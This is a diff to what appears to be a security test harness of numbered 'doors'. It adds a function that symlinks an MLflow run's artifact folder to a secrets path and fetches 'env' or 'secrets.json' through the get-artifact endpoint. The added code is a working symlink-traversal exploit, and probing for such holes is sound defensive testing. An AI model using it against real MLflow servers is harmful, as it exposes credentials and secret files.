@@ -372,6 +372,29 @@ def _(_told: dict[str, Any]) -> object:
     return _mlflow("GET", "gateway/secrets/list", {}, api="api/3.0")
 
 
+@door("MLflow: files of its machine, by a link in an experiment's folder", "400")
+def _(_told: dict[str, Any]) -> object:
+    import tempfile
+
+    import httpx
+    import mlflow
+
+    folder = Path(tempfile.mkdtemp(dir=MADE_BY_TRIGGERER.parent))
+    client = mlflow.MlflowClient()
+    experiment = client.create_experiment(folder.name, artifact_location=folder.as_uri())
+    run_id = client.create_run(experiment).info.run_id
+    (folder / run_id).mkdir()
+    (folder / run_id / "artifacts").symlink_to("/run/secrets/mlflow" if IN_CONTAINER else STATE)
+    answer = httpx.get(
+        f"{os.environ['MLFLOW_TRACKING_URI']}/get-artifact",
+        params={"run_uuid": run_id, "path": "env" if IN_CONTAINER else "secrets.json"},
+        auth=(os.environ["MLFLOW_TRACKING_USERNAME"], os.environ["MLFLOW_TRACKING_PASSWORD"]),
+        timeout=60, trust_env=False,
+    )  # fmt: skip
+    answer.raise_for_status()
+    return answer.text
+
+
 @door("MLflow: as admin", "401")
 def _(_told: dict[str, Any]) -> object:
     return _mlflow("GET", "users/list", {}, user="admin")
